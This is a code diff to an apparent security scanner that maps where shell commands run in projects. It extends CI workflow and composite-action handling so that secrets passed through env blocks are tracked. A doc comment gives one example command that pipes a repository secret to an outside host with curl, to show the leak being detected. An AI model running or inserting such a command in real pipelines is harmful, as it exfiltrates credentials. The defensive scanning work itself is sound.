@@ -139,8 +139,10 @@ export function flowList(v: string): string {
  * A workflow's `${{ secrets.NAME }}` is the repository secret NAME written into the step's shell text:
  * judged as the variable `$NAME` (`echo ${{ secrets.PROD_TOKEN }} | curl -d @- host` sends it out).
  */
-function workflowSecrets(commands: string): string {
-  return commands.replace(/\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}/g, '$$$1').replace(/\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/gi, '"$(env)"');
+function workflowSecrets(commands: string, text = ''): string {
+  // `env: {T: ${{ secrets.PROD_TOKEN }}}` (workflow, job or step): the step's `$T` holds the secret, read as an assignment before the commands.
+  const carried = [...text.matchAll(/^\s*([A-Za-z_][A-Za-z0-9_]*)\s*:\s*["']?\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}["']?\s*$/gm)].map((e) => `${e[1]}="$${e[2]}"\n`).join('');
+  return carried + commands.replace(/\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}/g, '$$$1').replace(/\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/gi, '"$(env)"');
 }
 
 /** The items of a flow sequence `["a", 'b', c d]`, unquoted. */
@@ -384,7 +386,9 @@ export function deferredPlaceOf(absolutePath: string, text?: string): PlaceRule 
   if (lname === 'justfile' || lname === '.justfile') return { where: name, when: 'when `just` runs that recipe', language: 'shell', strictUnknown: false, commands: justRecipes };
   if (/^taskfile(\.dist)?\.ya?ml$/.test(lname)) return { where: name, when: 'when `task` runs that task', language: 'shell', strictUnknown: false, commands: yamlCommands };
   if (lname === 'package.json' && !l.includes('/node_modules/')) return { where: 'the scripts of package.json', when: 'when npm runs them (lifecycle scripts on every install)', language: 'shell', strictUnknown: false, commands: packageScripts };
-  if (/\/\.github\/workflows\/[^/]+\.ya?ml$/.test(l) || /\/\.gitea\/workflows\/[^/]+\.ya?ml$/.test(l)) return { where: `the CI workflow .github/workflows/${name}`, when: 'in CI on the events it names (push, schedule …)', language: 'shell', strictUnknown: false, commands: (t) => workflowSecrets(yamlCommands(t)) };
+  // GitHub Actions and the hosts that run its format (Gitea, Forgejo), and local composite actions the workflows call (`uses: ./.github/actions/setup`).
+  if ((m = /\/\.(github|gitea|forgejo)\/workflows\/[^/]+\.ya?ml$/.exec(l))) return { where: `the CI workflow .${m[1]}/workflows/${name}`, when: 'in CI on the events it names (push, schedule …)', language: 'shell', strictUnknown: false, commands: (t) => workflowSecrets(yamlCommands(t), t) };
+  if ((m = /\/\.(github|gitea|forgejo)\/actions\/(.+)\/action\.ya?ml$/.exec(l))) return { where: `the composite action .${m[1]}/actions/${m[2]}`, when: 'in CI, in every workflow step that uses it', language: 'shell', strictUnknown: false, commands: (t) => workflowSecrets(yamlCommands(t), t) };
   if (/^(\.gitlab-ci|bitbucket-pipelines|azure-pipelines|\.travis|\.drone|appveyor|cloudbuild|buildspec|codemagic)\.ya?ml$/.test(lname) || /\/\.circleci\/config\.ya?ml$/.test(l) || /\/\.buildkite\/[^/]+\.ya?ml$/.test(l)) {
     return { where: `the CI configuration ${name}`, when: 'in CI on the events it names', language: 'shell', strictUnknown: false, commands: (t) => yamlCommands(t) || flowCommands(t, /commands|script|run|cmd/) };
   }
